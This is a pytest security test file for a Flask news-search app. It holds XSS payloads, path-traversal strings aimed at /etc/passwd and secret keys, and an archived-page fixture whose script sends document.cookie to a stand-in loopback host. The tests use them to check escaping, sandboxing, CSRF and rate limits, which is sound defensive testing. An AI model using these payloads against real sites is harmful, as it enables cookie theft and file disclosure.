"""Hostile users on the web side: security headers on every route, XSS, path traversal, CSRF and rate limits.

The app runs on a real index holding the web tests' sample corpus plus one hostile article whose title, text,
source and archived page carry script payloads. Every route of the app's URL map is visited (a new route
that this file does not know fails `test_every_route_is_covered`), including error answers, feeds, exports,
static files and the archived copy; each answer must carry the security headers, and no payload may come
back as live markup.
"""

from __future__ import annotations

import html
import os
import re
import sqlite3
import subprocess
import sys
import threading
import time
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from flask import Flask
from flask.testing import FlaskClient
from werkzeug.test import TestResponse

from crawler.archive import ArchiveWriter, Exchange, iso_now
from index.models import Record
from searchapp import create_app
from searchapp.watch import crawl_lock
from tests.webfixtures import sample_records

ADMIN = "admin-token-for-tests-0123456789"
PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "javascript:alert(1)",
    "{{7*7}}{% raw %}",
]
# What must never appear in a page: the payloads' live parts.
LIVE = re.compile(r"<script>alert|<img src=x|<svg/onload|onerror=alert\(1\)>", re.IGNORECASE)
ARCHIVED_PAGE = (
    b"<!DOCTYPE html><html><head><title>archived</title>"
    b"<script>fetch('http://127.0.0.1:9/steal?c='+document.cookie)</script></head>"
    b"<body><p onclick=\"alert(1)\">Archived text</p><iframe src='http://127.0.0.1:9/'></iframe></body></html>"
)


def hostile_record(warc_file: str, offset: int) -> Record:
    title = " ".join(PAYLOADS)
    text = "Налоги и бюджет Алматы. " + " ".join(PAYLOADS) + "\n\nВторой абзац о налогах " + PAYLOADS[0]
    return Record(
        id="hostile01",
        url="https://batys.kz/news/hostile.html",
        source="batys.kz",
        title=title,
        lead=PAYLOADS[1],
        text=text,
        lang="ru",
        published="2025-01-20",
        authors=[PAYLOADS[2]],
        fetched_at="2025-01-20T08:00:00Z",
        paragraph_langs=["ru", "ru"],
        regions=["KZ-75"],
        warc_file=warc_file,
        warc_offset=offset,
    )


def _archive(folder: Path) -> tuple[str, int]:
    writer = ArchiveWriter(folder)
    try:
        return writer.write(
            Exchange(
                url="https://batys.kz/news/hostile.html",
                request_headers=[("User-Agent", "test")],
                status=200,
                reason="OK",
                response_headers=[("Content-Type", "text/html; charset=utf-8")],
                body=ARCHIVED_PAGE,
                fetched_at=iso_now(),
                role="article",
            )
        )
    finally:
        writer.close()


def _open_index(path: Path) -> Any:
    from index import open_index

    return open_index(path)


def _make_app(data: Path, **settings: Any) -> Flask:
    config = {"data": str(data), "TESTING": True, "ui_lang": "en", "admin_token": ADMIN, **settings}
    return create_app(config)


@pytest.fixture(scope="module")
def sec_app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
    data = tmp_path_factory.mktemp("secdata")
    app = _make_app(data, saved_search_rate=1000)
    warc_file, offset = _archive(app.config["PATHS"].archive)
    index = _open_index(app.config["PATHS"].index)
    index.add([*sample_records(), hostile_record(warc_file, offset)])
    app.extensions["searchapp.index"] = index
    yield app
    index.close()


@pytest.fixture
def sec(sec_app: Flask) -> FlaskClient:
    return sec_app.test_client()


def csrf_of(page: str) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', page)
    assert found is not None, "the page has no CSRF field"
    return found.group(1)


def saved_search(client: FlaskClient, name: str = "Алматы налоги", q: str = "zzqxnothing") -> dict[str, str]:
    response = client.post("/api/saved-searches", json={"name": name, "q": q, "region": ["KZ-75"]})
    assert response.status_code == 201, response.get_data(as_text=True)
    urls: dict[str, str] = response.get_json()
    return {k: re.sub(r"^https?://[^/]+", "", v) for k, v in urls.items()}


# --- security headers on every route -----------------------------------------------------------------------


def assert_headers(response: TestResponse, where: str) -> None:
    csp = response.headers.get("Content-Security-Policy", "")
    assert csp, f"{where}: no Content-Security-Policy"
    assert "frame-ancestors" in csp, f"{where}: CSP without frame-ancestors"
    assert "default-src" in csp, f"{where}: CSP without default-src"
    assert "'unsafe-inline'" not in re.sub(r"style-src[^;]*", "", csp), f"{where}: inline scripts allowed"
    assert response.headers.get("X-Content-Type-Options") == "nosniff", f"{where}: no nosniff"
    assert response.headers.get("X-Frame-Options") in ("DENY", "SAMEORIGIN"), f"{where}: no frame policy"


def visits(client: FlaskClient) -> list[tuple[str, str, str, dict[str, Any]]]:
    """(endpoint, method, path, request kwargs) for every route, with good and bad inputs and the error pages."""
    urls = saved_search(client, name="headers")
    admin = {"headers": {"Authorization": f"Bearer {ADMIN}"}}
    return [
        ("static", "GET", "/static/style.css", {}),
        ("static", "GET", "/static/nope.css", {}),
        ("ui.home", "GET", "/", {}),
        ("ui.home", "GET", "/?q=налогах&region=KZ-75&sort=date", {}),
        ("ui.home", "GET", "/?region=<script>", {}),
        ("ui.home", "GET", "/?date_from=yesterday", {}),
        ("ui.article", "GET", "/articles/rec0001", {}),
        ("ui.article", "GET", "/articles/hostile01", {}),
        ("ui.article", "GET", "/articles/nope", {}),
        ("ui.archived", "GET", "/articles/hostile01/archived", {}),
        ("ui.archived", "GET", "/articles/rec0001/archived", {}),
        ("ui.export_csv", "GET", "/export.csv?q=налогах", {}),
        ("ui.export_json", "GET", "/export.json?region=KZ-61", {}),
        ("ui.export_json", "GET", "/export.json?page=abc", {}),
        ("ui.opensearch", "GET", "/opensearch.xml", {}),
        ("api.search", "GET", "/api/search?q=налогах", {}),
        ("api.search", "GET", "/api/search?amount_min=-5", {}),
        ("api.article", "GET", "/api/articles/hostile01", {}),
        ("api.article", "GET", "/api/articles/nope", {}),
        ("api.openapi", "GET", "/api/openapi.json", {}),
        ("feeds.save_form", "POST", "/feeds/save", {"data": {"q": "x"}}),
        ("feeds.rss", "GET", urls["rss"], {}),
        ("feeds.rss", "GET", "/feeds/nope.rss", {}),
        ("feeds.atom", "GET", urls["atom"], {}),
        ("feeds.manage", "GET", urls["manage"], {}),
        ("feeds.manage", "GET", "/feeds/manage/nope", {}),
        ("feeds.manage_post", "POST", urls["manage"], {"data": {"name": "x"}}),
        ("feeds.opml", "GET", "/feeds/opml", {}),
        ("feeds.search_rss", "GET", "/feeds/search.rss?q=налогах", {}),
        ("feeds.search_rss", "GET", "/feeds/search.rss?region=<script>", {}),
        ("feeds.search_atom", "GET", "/feeds/search.atom?q=налогах&sort=date", {}),
        ("feeds.search_atom", "GET", "/feeds/search.atom?date_to=never", {}),
        ("saved_api.create_saved_search", "POST", "/api/saved-searches", {"json": {"q": "x"}}),
        ("saved_api.create_saved_search", "POST", "/api/saved-searches", {"data": "q=x"}),
        ("admin.reindex", "POST", "/api/admin/reindex", {}),
        ("admin.crawl", "POST", "/api/admin/crawl", {}),
        ("admin.delete_saved_search", "DELETE", "/api/admin/saved-searches/nope", admin),
        ("admin.delete_saved_search", "DELETE", "/api/admin/saved-searches/nope", {}),
        ("", "GET", "/no/such/page", {}),
        ("", "GET", "/api/no/such/endpoint", {}),
        ("", "PUT", "/", {}),
        ("", "POST", "/api/search", {}),
    ]


def test_every_route_is_covered(sec_app: Flask, sec: FlaskClient) -> None:
    endpoints = {rule.endpoint for rule in sec_app.url_map.iter_rules()}
    covered = {endpoint for endpoint, *_ in visits(sec)}
    assert endpoints <= covered, f"routes without a security check here: {sorted(endpoints - covered)}"


def test_security_headers_on_every_response(sec: FlaskClient) -> None:
    statuses = set()
    for _endpoint, method, path, kwargs in visits(sec):
        response = sec.open(path, method=method, **kwargs)
        statuses.add(response.status_code)
        assert response.status_code < 500, f"{method} {path}: {response.status_code}"
        assert_headers(response, f"{method} {path} ({response.status_code})")
        response.close()
    assert {200, 400, 403, 404, 405} <= statuses  # the error answers were visited, not only the good ones


# --- XSS ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_query_is_escaped_where_echoed(sec: FlaskClient, payload: str) -> None:
    page = sec.get("/", query_string={"q": payload}).get_data(as_text=True)
    assert not LIVE.search(page)
    if "<" in payload:
        assert html.escape(payload, quote=False).split("&lt;")[1][:6] in page  # echoed, but as text


@pytest.mark.parametrize("name", ["region", "sector", "country", "lang", "source", "sort", "date_from", "amount_min"])
@pytest.mark.parametrize("path", ["/", "/api/search", "/export.csv"])
def test_bad_parameter_values_are_escaped_in_errors(sec: FlaskClient, name: str, path: str) -> None:
    response = sec.get(path, query_string={name: PAYLOADS[1]})
    assert response.status_code == 400
    if path.startswith("/api"):
        # JSON may carry the value as it came (a JSON string is not markup); nosniff keeps browsers from guessing
        assert response.mimetype == "application/json"
        assert response.headers["X-Content-Type-Options"] == "nosniff"
    else:
        assert response.mimetype == "text/html"
        assert not LIVE.search(response.get_data(as_text=True))


def test_hostile_record_is_escaped_in_results_snippets_and_facets(sec: FlaskClient) -> None:
    for query in ("налогах", "alert", "script", ""):
        page = sec.get("/", query_string={"q": query, "source": "batys.kz"}).get_data(as_text=True)
        assert "налог" in page.lower() or query == "alert" or query == "script"
        assert not LIVE.search(page), query
    data = sec.get("/api/search", query_string={"q": "налогах"}).get_json()
    hostile = [r for r in data["results"] if r["id"] == "hostile01"]
    assert hostile, "the hostile record is not found"
    snippet = hostile[0]["snippet"]
    assert not LIVE.search(snippet)  # the API snippet is HTML with <mark>: the text in it must be escaped
    assert set(re.findall(r"</?([a-zA-Z]+)", snippet)) <= {"mark"}


def test_hostile_record_is_escaped_on_its_page(sec: FlaskClient) -> None:
    page = sec.get("/articles/hostile01").get_data(as_text=True)
    assert "Налоги и бюджет" in page
    assert not LIVE.search(page)
    assert 'href="javascript:' not in page


def test_feeds_carry_hostile_text_as_text(sec: FlaskClient) -> None:
    urls = saved_search(sec, name=PAYLOADS[0], q="налогах")  # matches the hostile article
    for kind in ("rss", "atom"):
        response = sec.get(urls[kind])
        assert response.status_code == 200
        root = ET.fromstring(response.data)
        titles = [el.text for el in root.iter() if el.tag.rsplit("}", 1)[-1] == "title"]
        assert PAYLOADS[0] in titles  # the saved search's name, as text
        assert any(PAYLOADS[1] in (t or "") for t in titles)  # the hostile article's title, as text
        assert not any(el.tag.rsplit("}", 1)[-1] in ("script", "img", "svg") for el in root.iter())
    manage = sec.get(urls["manage"]).get_data(as_text=True)
    assert not LIVE.search(manage)


@pytest.mark.parametrize("kind", ["rss", "atom"])
def test_feeds_stay_well_formed_with_control_characters(sec: FlaskClient, kind: str) -> None:
    """A query or a saved search's name with a C0 control character must not break a reader's XML parser."""
    response = sec.get(f"/feeds/search.{kind}", query_string={"q": "налогах\x01\x0b"})
    assert response.status_code in (200, 400)
    if response.status_code == 200:
        ET.fromstring(response.data)
    urls = saved_search(sec, name="name\x02\x1f", q="налогах\x01")
    ET.fromstring(sec.get(urls[kind]).data)


@pytest.mark.parametrize("kind", ["rss", "atom"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_search_feeds_carry_hostile_queries_as_text(sec: FlaskClient, kind: str, payload: str) -> None:
    response = sec.get(f"/feeds/search.{kind}", query_string={"q": f"налогах {payload}"})
    assert response.status_code == 200
    root = ET.fromstring(response.data)
    assert not any(el.tag.rsplit("}", 1)[-1] in ("script", "img", "svg") for el in root.iter())
    texts = " ".join(el.text or "" for el in root.iter())
    if "<" in payload:
        assert payload in texts or "налогах" in texts  # echoed as text, or not echoed at all


def test_archived_copy_is_sandboxed(sec: FlaskClient) -> None:
    response = sec.get("/articles/hostile01/archived")
    assert response.status_code == 200
    assert b"Archived text" in response.data
    csp = [part.strip() for part in response.headers["Content-Security-Policy"].split(";")]
    assert "sandbox" in csp  # no allow-scripts, no allow-same-origin: scripts never run, no cookies
    assert "default-src 'none'" in csp
    assert not any(part.startswith("script-src") for part in csp)  # falls back to default-src 'none'
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_archived_non_html_is_served_as_plain_text(tmp_path: Path) -> None:
    app = _make_app(tmp_path / "data")
    writer = ArchiveWriter(app.config["PATHS"].archive)
    name, offset = writer.write(
        Exchange(
            "https://x.kz/a.svg",
            [],
            200,
            "OK",
            [("Content-Type", "image/svg+xml")],
            b"<svg onload='alert(1)'/>",
            iso_now(),
        )
    )
    writer.close()
    index = _open_index(app.config["PATHS"].index)
    try:
        index.add([hostile_record(name, offset)])
        app.extensions["searchapp.index"] = index
        response = app.test_client().get("/articles/hostile01/archived")
        assert response.mimetype == "text/plain"
        assert "sandbox" in response.headers["Content-Security-Policy"]
    finally:
        index.close()


# --- path traversal ----------------------------------------------------------------------------------------

TRAVERSALS = [
    "/static/../../../../etc/passwd",
    "/static/..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/static/....//....//etc/passwd",
    "/static//etc/passwd",
    "/static/..%5c..%5c..%5cetc%5cpasswd",
    "/static/%252e%252e/%252e%252e/etc/passwd",
    "/static/style.css%00.png",
    "/articles/..%2f..%2f..%2fetc%2fpasswd/archived",
    "/articles/%2e%2e/archived",
    "/feeds/..%2f..%2fsecret_key.rss",
    "/feeds/manage/..%2f..%2fapp.sqlite",
    "/api/articles/..%2f..%2fsecret_key",
]


@pytest.mark.parametrize("path", TRAVERSALS)
def test_path_traversal_reads_nothing_outside(sec_app: Flask, sec: FlaskClient, path: str) -> None:
    secret = (sec_app.config["PATHS"].root / "secret_key").read_text()
    response = sec.get(path, follow_redirects=True)  # "//" is redirected to "/" first: follow it
    body = response.get_data(as_text=True)
    assert response.status_code in (400, 404), f"{path}: {response.status_code}"
    assert "root:" not in body and secret not in body
    assert_headers(response, path)


@pytest.mark.parametrize("warc_file", ["../secret_key", "/etc/passwd", "..", "../../../../etc/passwd", "x.warc.gz"])
def test_archived_route_reads_only_files_of_the_archive(tmp_path: Path, warc_file: str) -> None:
    """A record whose warc_file was tampered with must not make the viewer read another file."""
    app = _make_app(tmp_path / "data")
    index = _open_index(app.config["PATHS"].index)
    try:
        index.add([hostile_record(warc_file, 0)])
        app.extensions["searchapp.index"] = index
        response = app.test_client().get("/articles/hostile01/archived")
        assert response.status_code == 404
        assert "root:" not in response.get_data(as_text=True)
    finally:
        index.close()


# --- CSRF and the guards of state-changing routes ----------------------------------------------------------


def test_every_state_changing_route_is_guarded(sec_app: Flask) -> None:
    """Each POST/PUT/DELETE route refuses a request a cross-site page could make (a plain form, no token)."""
    client = sec_app.test_client()
    urls = saved_search(client)
    forged: dict[str, tuple[str, dict[str, Any]]] = {
        "feeds.save_form": ("/feeds/save", {"data": {"q": "x", "name": "forged"}}),
        "feeds.manage_post": (urls["manage"], {"data": {"action": "delete"}}),
        "saved_api.create_saved_search": ("/api/saved-searches", {"data": {"q": "x"}}),
        "admin.reindex": ("/api/admin/reindex", {"data": {}}),
        "admin.crawl": ("/api/admin/crawl", {"data": {}}),
        "admin.delete_saved_search": (f"/api/admin/saved-searches/{urls['id']}", {}),
    }
    changing = {
        rule.endpoint
        for rule in sec_app.url_map.iter_rules()
        if rule.methods and rule.methods & {"POST", "PUT", "PATCH", "DELETE"}
    }
    assert changing <= set(forged), f"state-changing routes this test does not know: {changing - set(forged)}"
    for endpoint, (path, kwargs) in forged.items():
        rule = next(r for r in sec_app.url_map.iter_rules() if r.endpoint == endpoint)
        method = next(m for m in ("POST", "PUT", "PATCH", "DELETE") if rule.methods and m in rule.methods)
        response = client.open(path, method=method, **kwargs)
        assert response.status_code in (400, 403, 404, 415), f"{endpoint}: {response.status_code}"
    # nothing changed: the saved search is still there
    assert client.get(urls["rss"]).status_code == 200


def test_csrf_token_of_another_session_is_refused(sec_app: Flask) -> None:
    alice, mallory = sec_app.test_client(), sec_app.test_client()
    urls = saved_search(alice)
    token = csrf_of(mallory.get(saved_search(mallory)["manage"]).get_data(as_text=True))
    for path, data in (("/feeds/save", {"q": "x"}), (urls["manage"], {"action": "delete"})):
        response = alice.post(path, data={**data, "csrf_token": token})
        assert response.status_code == 400, path
        assert response.get_data(as_text=True).count("did not come from this site") == 1
    own = csrf_of(alice.get(urls["manage"]).get_data(as_text=True))
    assert alice.post(urls["manage"], data={"action": "delete", "csrf_token": own}).status_code == 303


def _cookies(client: FlaskClient) -> list[Any]:
    client.get("/?ui=kk")
    urls = saved_search(client)
    client.get(urls["manage"])
    cookies = list((client._cookies or {}).values())
    assert {c.key for c in cookies} >= {"ui_lang", "session"}
    return cookies


def test_cookies_are_httponly(sec_app: Flask) -> None:
    for cookie in _cookies(sec_app.test_client()):
        assert cookie.http_only, cookie.key


def test_cookies_are_samesite(sec_app: Flask) -> None:
    for cookie in _cookies(sec_app.test_client()):
        assert (cookie.same_site or "").lower() in ("lax", "strict"), cookie.key


def test_admin_routes_need_the_token(sec: FlaskClient) -> None:
    for method, path in (("POST", "/api/admin/reindex"), ("POST", "/api/admin/crawl"),
                         ("DELETE", "/api/admin/saved-searches/x")):  # fmt: skip
        assert sec.open(path, method=method).status_code == 403
        wrong = sec.open(path, method=method, headers={"Authorization": "Bearer wrong"})
        assert wrong.status_code == 403
        assert sec.open(path, method=method, headers={"Authorization": ADMIN}).status_code == 403  # no "Bearer"


def test_admin_routes_do_not_exist_without_a_token(tmp_path: Path) -> None:
    client = create_app({"data": str(tmp_path / "d"), "TESTING": True}).test_client()
    for method, path in (("POST", "/api/admin/reindex"), ("DELETE", "/api/admin/saved-searches/x")):
        assert client.open(path, method=method, headers={"Authorization": "Bearer "}).status_code == 404


# --- rate limits -------------------------------------------------------------------------------------------


def test_saved_search_creation_is_rate_limited_per_client(tmp_path: Path) -> None:
    app = _make_app(tmp_path / "data", saved_search_rate=3)
    client = app.test_client()
    index = _open_index(app.config["PATHS"].index)
    app.extensions["searchapp.index"] = index
    try:
        codes = [client.post("/api/saved-searches", json={"q": f"q{n}"}).status_code for n in range(5)]
        assert codes == [201, 201, 201, 429, 429]
        # the form route shares the budget: a browser cannot go around the API's limit
        page = client.get("/").get_data(as_text=True)
        if "csrf_token" in page:
            form = client.post("/feeds/save", data={"q": "x", "csrf_token": csrf_of(page)})
            assert form.status_code == 429
        # another client is not limited by the first
        other = client.post("/api/saved-searches", json={"q": "y"}, environ_base={"REMOTE_ADDR": "10.1.2.3"})
        assert other.status_code == 201
        limited = client.post("/api/saved-searches", json={"q": "z"})
        assert limited.get_json()["error"]["code"] == "rate_limited"
        assert_headers(limited, "429")
    finally:
        index.close()


def test_admin_routes_are_rate_limited(tmp_path: Path) -> None:
    app = _make_app(tmp_path / "data")
    client = app.test_client()
    codes = [
        client.delete("/api/admin/saved-searches/none", headers={"Authorization": f"Bearer {ADMIN}"}).status_code
        for _ in range(35)
    ]
    assert codes[:30] == [404] * 30
    assert set(codes[30:]) == {429}


def test_manage_posts_are_rate_limited(tmp_path: Path) -> None:
    app = _make_app(tmp_path / "data")
    client = app.test_client()
    index = _open_index(app.config["PATHS"].index)
    app.extensions["searchapp.index"] = index
    try:
        manage = saved_search(client)["manage"]
        token = csrf_of(client.get(manage).get_data(as_text=True))
        codes = [
            client.post(manage, data={"csrf_token": token, "name": f"n{n}", "q": "x"}).status_code for n in range(120)
        ]
        assert codes[0] == 303
        assert 429 in codes, "120 posts in a row were all accepted"
    finally:
        index.close()


# --- guards shared by every serving process ----------------------------------------------------------------
# `searchapp serve` runs several processes on one data folder; two apps on one folder stand for two of them
# (each has its own memory, as two processes do), and a third process shows up as a real child holding a lock.


def _admin_delete(app: Flask) -> int:
    client = app.test_client()
    return client.delete("/api/admin/saved-searches/none", headers={"Authorization": f"Bearer {ADMIN}"}).status_code


def test_a_rate_limit_is_shared_by_every_app_on_the_data_folder(tmp_path: Path) -> None:
    first, second = _make_app(tmp_path / "data"), _make_app(tmp_path / "data")
    codes = [_admin_delete(first if n % 2 else second) for n in range(36)]
    assert codes[:30] == [404] * 30, codes
    assert set(codes[30:]) == {429}, "each serving process gave the client its own 30"
    # another client still has its whole budget, on either app
    other = first.test_client().delete(
        "/api/admin/saved-searches/none",
        headers={"Authorization": f"Bearer {ADMIN}"},
        environ_base={"REMOTE_ADDR": "10.9.8.7"},
    )
    assert other.status_code == 404


def test_concurrent_requests_on_two_apps_never_exceed_the_limit(tmp_path: Path) -> None:
    apps = [_make_app(tmp_path / "data"), _make_app(tmp_path / "data")]
    codes: list[int] = []
    lock = threading.Lock()

    def hammer(app: Flask) -> None:
        for _ in range(10):
            code = _admin_delete(app)
            with lock:
                codes.append(code)

    threads = [threading.Thread(target=hammer, args=(apps[n % 2],)) for n in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(codes) == [404] * 30 + [429] * 30  # exactly the limit, however the requests interleave


def test_the_limit_table_stays_bounded(tmp_path: Path) -> None:
    app = _make_app(tmp_path / "data")
    limiter = app.extensions["searchapp.ratelimit"]
    for n in range(50):
        limiter.allow("b", f"client{n}", limit=5, window=0.05)
    time.sleep(0.1)
    assert limiter.allow("b", "late", limit=5, window=0.05)
    with sqlite3.connect(app.config["PATHS"].app_db) as db:
        (rows,) = db.execute("SELECT COUNT(*) FROM rate_hit WHERE bucket = 'b'").fetchone()
    assert rows == 1, "hits older than the window were kept"
    for _ in range(20):
        limiter.allow("b", "late", limit=5, window=60)
    with sqlite3.connect(app.config["PATHS"].app_db) as db:
        (rows,) = db.execute("SELECT COUNT(*) FROM rate_hit WHERE bucket = 'b'").fetchone()
    assert rows == 5, "refused hits were stored"


def test_a_locked_or_damaged_limit_store_never_answers_500(tmp_path: Path) -> None:
    app = _make_app(tmp_path / "data")
    client = app.test_client()
    manage = "/feeds/manage/" + "x" * 43
    db_path = app.config["PATHS"].app_db
    holder = sqlite3.connect(db_path, isolation_level=None)
    holder.execute("BEGIN EXCLUSIVE")  # another process stuck in a write
    try:
        # admin fails open: the admin token is proven, and the operator must still be able to act
        assert _admin_delete(app) == 404
        # a public write fails closed, in words
        refused = client.post(manage, data={"name": "n"})
        assert refused.status_code == 503
        assert refused.get_json(silent=True) is None or refused.get_json()["error"]["code"] == "unavailable"
        assert "try again" in refused.get_data(as_text=True)
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    for suffix in ("", "-wal", "-shm"):
        Path(f"{db_path}{suffix}").unlink(missing_ok=True)
    db_path.write_bytes(b"this is not a database" * 100)
    assert _admin_delete(app) == 404
    assert client.post(manage, data={"name": "n"}).status_code == 503
    # once the operator replaces the damaged file, limits count again without a restart
    db_path.unlink()
    assert [_admin_delete(app) for _ in range(31)] == [404] * 30 + [429]


def test_saved_search_creation_shares_the_limiter_of_every_process(tmp_path: Path) -> None:
    """Creation is counted by the one RateLimiter: shared by two apps on one folder (two serving processes), and
    a locked app.sqlite refuses it in words within the limiter's wait, not after SQLite's 30 s."""
    apps = [_make_app(tmp_path / "data", saved_search_rate=3), _make_app(tmp_path / "data", saved_search_rate=3)]
    codes = [apps[n % 2].test_client().post("/api/saved-searches", json={"q": f"q{n}"}) for n in range(5)]
    assert [c.status_code for c in codes] == [201, 201, 201, 429, 429], "each process gave its own budget"
    assert codes[3].get_json()["error"] == {
        "code": "rate_limited",
        "message": "Too many saved searches from this address; try again in an hour.",
    }
    other = apps[0].test_client().post("/api/saved-searches", json={"q": "y"}, environ_base={"REMOTE_ADDR": "10.1.2.3"})
    assert other.status_code == 201
    holder = sqlite3.connect(apps[0].config["PATHS"].app_db, isolation_level=None)
    holder.execute("BEGIN EXCLUSIVE")  # another process stuck in a write
    try:
        started = time.monotonic()
        refused = (
            apps[1].test_client().post("/api/saved-searches", json={"q": "z"}, environ_base={"REMOTE_ADDR": "10.4.5.6"})
        )
        waited = time.monotonic() - started
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert refused.status_code == 503
    assert refused.get_json()["error"]["code"] == "unavailable"
    assert waited < 10, f"creation waited {waited:.1f} s on a locked app.sqlite"
    # once the lock is gone, the same client creates again
    again = apps[1].test_client().post("/api/saved-searches", json={"q": "z"}, environ_base={"REMOTE_ADDR": "10.4.5.6"})
    assert again.status_code == 201


class _Stalling(ThreadingHTTPServer):
    """A loopback site that holds every request until released: a crawl of it keeps running until then."""

    daemon_threads = True

    def __init__(self) -> None:
        self.release = threading.Event()
        self.asked = threading.Event()
        server = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                server.asked.set()
                server.release.wait(30)
                self.send_error(404)

            def log_message(self, *args: Any) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)


def _lock_is_free(paths: Any) -> bool:
    with crawl_lock(paths) as held:
        return held


def test_a_second_admin_action_on_another_process_gets_409(tmp_path: Path) -> None:
    site = _Stalling()
    threading.Thread(target=site.serve_forever, daemon=True).start()
    first, second = _make_app(tmp_path / "data"), _make_app(tmp_path / "data")
    paths = first.config["PATHS"]
    paths.demo.mkdir(parents=True, exist_ok=True)
    (paths.demo / "sources.toml").write_text(
        f'[[source]]\nid = "stall"\nname = "stall"\nstart = ["http://127.0.0.1:{site.server_port}/"]\n'
        "allow_private = true\n",
        encoding="utf-8",
    )
    auth = {"Authorization": f"Bearer {ADMIN}"}
    try:
        started = first.test_client().post("/api/admin/crawl", headers=auth)
        assert started.status_code == 202 and started.get_json() == {"started": "crawl"}
        assert site.asked.wait(30), "the crawl never reached the site"
        for app, action in ((second, "reindex"), (second, "crawl"), (first, "reindex")):
            busy = app.test_client().post(f"/api/admin/{action}", headers=auth)
            assert busy.status_code == 409, (action, busy.get_data(as_text=True))
            assert busy.get_json()["error"]["code"] == "busy"
    finally:
        site.release.set()
        deadline = time.monotonic() + 60
        while not _lock_is_free(paths) and time.monotonic() < deadline:
            time.sleep(0.1)
        site.shutdown()
        site.server_close()
    assert _lock_is_free(paths), "the crawl's lock was not released when it ended"


def test_admin_actions_answer_409_while_a_watch_in_another_process_crawls(tmp_path: Path) -> None:
    app = _make_app(tmp_path / "data")
    paths = app.config["PATHS"]
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys\nfrom pathlib import Path\nfrom searchapp.paths import DataPaths\n"
            "from searchapp.watch import crawl_lock\n"
            "with crawl_lock(DataPaths(Path(sys.argv[1]))) as held:\n"
            "    print(held, flush=True)\n    sys.stdin.read()\n",
            str(paths.root),
        ],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "True"
        busy = app.test_client().post("/api/admin/reindex", headers={"Authorization": f"Bearer {ADMIN}"})
        assert busy.status_code == 409
        assert busy.get_json()["error"]["message"] == "A crawl or reindex is already running."
    finally:
        holder.communicate("", timeout=30)
    assert _lock_is_free(paths)


@pytest.mark.skipif(not Path("/proc/self/task").exists(), reason="counts worker processes through /proc (Linux)")
def test_serve_with_two_processes_holds_one_limit_and_one_admin_job(tmp_path: Path) -> None:
    data = tmp_path / "data"
    command = [sys.executable, "-m", "searchapp.cli", "serve", "--port", "0", "--data", str(data)]
    env = {**os.environ, "SEARCHAPP_PROCESSES": "2", "SEARCHAPP_THREADS": "2", "SEARCHAPP_ADMIN_TOKEN": ADMIN}
    env["SEARCHAPP_UI_LANG"] = "en"
    auth = {"Authorization": f"Bearer {ADMIN}"}
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env) as process:
        try:
            assert process.stdout is not None
            line = process.stdout.readline()
            assert line.startswith("Serving on http://"), line
            url = line.split()[-1].rstrip("/")
            assert len(Path(f"/proc/{process.pid}/task/{process.pid}/children").read_text().split()) == 2
            # eight keep-alive connections at once spread over both workers (tests/test_serving.py shows it)
            codes: list[int] = []
            lock = threading.Lock()

            def hammer() -> None:
                with httpx.Client(timeout=30) as client:
                    for _ in range(8):
                        code = client.delete(url + "/api/admin/saved-searches/none", headers=auth).status_code
                        with lock:
                            codes.append(code)

            threads = [threading.Thread(target=hammer) for _ in range(8)]
            for thread in threads:
                thread.start()
            for thread in threads:
                thread.join()
            assert sorted(codes) == [404] * 30 + [429] * 34, sorted(codes)
        finally:
            process.terminate()
            process.wait(timeout=30)
